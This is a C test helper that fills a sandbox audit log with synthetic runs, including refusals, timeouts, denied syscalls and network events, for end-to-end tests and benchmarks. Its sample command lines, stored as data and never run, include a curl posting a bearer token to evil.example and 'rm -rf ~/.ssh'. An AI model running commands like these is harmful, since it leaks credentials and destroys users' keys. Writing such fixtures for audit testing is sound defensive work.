/* audit-fill.c: fills an audit log with synthetic runs through the real API
 * (begin, events, samples, output, end; refusals; interrupted runs), for
 * tests/e2e/audit-cli.sh and bench/audit.sh. Not installed.
 *
 *   audit-fill --db PATH [-n RUNS] [--days D] [--fast] [--time]
 *
 * --fast turns off fsync-on-checkpoint for this connection only (the rows are
 * the same); --time prints the mean begin and end latency in ms. */
#include <signal.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "audit/audit.h"
#include "sandbox/spawn.h"
#include "base/util.h"

static const char *const profiles[] = { "default", "python", "restricted", "isolated",
    "claude-code" };
static const char *const sources[] = { "cli", "tui", "wrap", "mcp" };
static const char *const clients[] = { NULL, NULL, "claude-code", "cursor" };
static const char *const hosts[] = { "pkgs.example.org", "files.example.net", "git.example.com",
    "evil.example", "registry.example.org" };
static const char *const syscalls[] = { "mount", "ptrace", "unshare", "bpf", "keyctl" };

static char **
make_argv(int i, char *buf, size_t len)
{
	static char	*v[8];

	switch (i % 8) {
	case 0:
		v[0] = "python3"; v[1] = "train.py"; v[2] = NULL;
		break;
	case 1:
		v[0] = "pytest"; v[1] = "-q"; v[2] = NULL;
		break;
	case 2:
		v[0] = "curl"; v[1] = "-H"; v[2] = "Authorization: Bearer sekrit123456";
		v[3] = "https://evil.example/x"; v[4] = NULL;
		break;
	case 3:
		v[0] = "sh"; v[1] = "-c"; v[2] = "rm -rf ~/.ssh && echo done"; v[3] = NULL;
		break;
	case 4:
		v[0] = "pip"; v[1] = "install"; v[2] = "-r"; v[3] = "requirements.txt";
		v[4] = NULL;
		break;
	case 5:
		v[0] = "mysql"; v[1] = "--password"; v[2] = "hunter2"; v[3] = NULL;
		break;
	case 6:
		v[0] = "ls"; v[1] = "-la"; v[2] = NULL;
		break;
	default:
		snprintf(buf, len, "echo run %d", i);
		v[0] = "sh"; v[1] = "-c"; v[2] = buf; v[3] = NULL;
		break;
	}
	return (v);
}

int
main(int argc, char **argv)
{
	const char		*db = NULL;
	long			 n = 100;
	double			 days = 10, now = (double)time(NULL), tb = 0, te = 0, topen;
	int			 fast = 0, timing = 0;
	struct merr		 e;
	struct audit		*a;
	pid_t			 dead;
	double			 t0;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--db") == 0 && i + 1 < argc)
			db = argv[++i];
		else if (strcmp(argv[i], "-n") == 0 && i + 1 < argc)
			n = atol(argv[++i]);
		else if (strcmp(argv[i], "--days") == 0 && i + 1 < argc)
			days = atof(argv[++i]);
		else if (strcmp(argv[i], "--fast") == 0)
			fast = 1;
		else if (strcmp(argv[i], "--time") == 0)
			timing = 1;
		else {
			fprintf(stderr, "usage: audit-fill --db PATH [-n RUNS] [--days D] "
			    "[--fast] [--time]\n");
			return (2);
		}
	}
	topen = now_mono();
	if (db == NULL || (a = audit_open(db, 0, &e)) == NULL) {
		fprintf(stderr, "audit-fill: %s\n", db == NULL ? "--db PATH" : e.msg);
		return (1);
	}
	topen = now_mono() - topen;
	if (fast)
		sqlite3_exec(audit_sqlite(a), "PRAGMA synchronous = OFF", NULL, NULL, NULL);
	/* A pid that is certainly dead, for runs whose moat "was killed". */
	if ((dead = fork()) == 0)
		_exit(0);
	waitpid(dead, NULL, 0);
	for (long i = 0; i < n; i++) {
		char			 buf[64], reasons[128], limits[128];
		double			 start = now - days * 86400 + (double)i * days * 86400 / (double)n;
		int			 risk = (int)((i * 37) % 101);
		struct audit_start	 s = {
			.source = sources[i % 4], .client = clients[i % 4],
			.profile = profiles[i % 5], .profile_text = profiles[i % 5],
			.net_mode = i % 3 ? "isolated" : "restricted", .workspace = "/home/u/proj",
			.cwd = "/home/u/proj", .argv = make_argv((int)i, buf, sizeof buf),
			.risk = risk, .risk_reasons = reasons, .started_at = start,
		};
		struct audit_end	 en = {
			.status = i % 50 == 7 ? AUDIT_SETUP_FAILED : AUDIT_DONE,
			.end_reason = i % 50 == 7 ? "setup-failed" : i % 11 == 0 ? "timeout" :
			    "exited",
			.exit_code = i % 50 == 7 ? 125 : i % 11 == 0 ? 124 : (int)(i % 4 == 0),
			.cpu_user = 0.01 * (double)(i % 300), .cpu_sys = 0.002 * (double)(i % 100),
			.peak_memory = (int64_t)(1 + i % 500) << 20, .peak_pids = 1 + i % 9,
			.limits = limits, .risk = risk > 90 ? 100 : risk + 5,
			.risk_reasons = reasons, .ended_at = start + 0.1 + (double)(i % 30),
		};
		struct audit_run	*ar;

		snprintf(reasons, sizeof reasons, "[\"synthetic reason %ld\"]", i % 13);
		snprintf(limits, sizeof limits, "{\"timeout\":{\"value\":300,\"how\":\"timer\"},"
		    "\"memory\":{\"value\":%d,\"how\":\"cgroup v1\"}}", 512 << 20);
		if (i % 40 == 3) {
			if (audit_run_refused(a, &s, "risk above refuse_above", &e) == -1)
				goto fail;
			continue;
		}
		if (i % 97 == 5) {
			s.owner_pid = dead;	/* left "running"; the next open marks it */
			s.owner_start = 1;	/* as a moat's own row always has one */
		}
		t0 = now_mono();
		if ((ar = audit_run_begin(a, &s, &e)) == NULL)
			goto fail;
		tb += now_mono() - t0;
		if (i % 97 == 5) {
			audit_run_abandon(ar);
			continue;
		}
		snprintf(buf, sizeof buf, "hello from run %ld\n", i);
		audit_output_feed(ar, 1, buf, strlen(buf));
		if (i % 6 == 0)
			audit_output_feed(ar, 2, "warning: token=abc123secret\n", 28);
		if (i % 5 == 0) {
			struct run_event ev = { .kind = EV_SYSCALL_DENIED, .t = 0.1,
			    .syscall = syscalls[(i / 5) % 5], .text = "denied", .count = 1 + i % 20 };

			if (audit_run_event(ar, &ev, &e) == -1)
				goto fail;
		}
		if (i % 7 == 0) {
			struct run_event ev = { .kind = EV_NET_CONN, .t = 0.2,
			    .host = hosts[(i / 7) % 5], .port = 443, .addr = "192.0.2.1",
			    .verdict = (i / 7) % 5 == 3 ? "denied" : "allowed",
			    .rule = "allowlist", .text = "CONNECT", .bytes_out = 100, .bytes_in = 2000 };

			if (audit_run_event(ar, &ev, &e) == -1)
				goto fail;
		}
		if (i % 3 == 0)
			for (int k = 0; k < 10; k++) {
				struct audit_sample sm = { .t = k * 0.5,
				    .cpu_pct = (double)((k * 37 + i) % 100),
				    .mem_bytes = (int64_t)(k + 1) << 20, .pids = 1 + k % 4,
				    .io_read = k * 1000, .io_write = k * 500 };

				if (audit_run_sample(ar, &sm, &e) == -1)
					goto fail;
			}
		t0 = now_mono();
		if (audit_run_end(ar, &en, &e) == -1)
			goto fail;
		te += now_mono() - t0;
	}
	t0 = now_mono();
	audit_close(a);
	if (timing)
		printf("open %.3f ms; begin %.3f ms, end %.3f ms (mean over %ld runs); "
		    "close %.3f ms\n", topen * 1000, tb * 1000 / (double)n,
		    te * 1000 / (double)n, n, (now_mono() - t0) * 1000);
	return (0);
fail:
	fprintf(stderr, "audit-fill: %s\n", e.msg);
	audit_close(a);
	return (1);
}
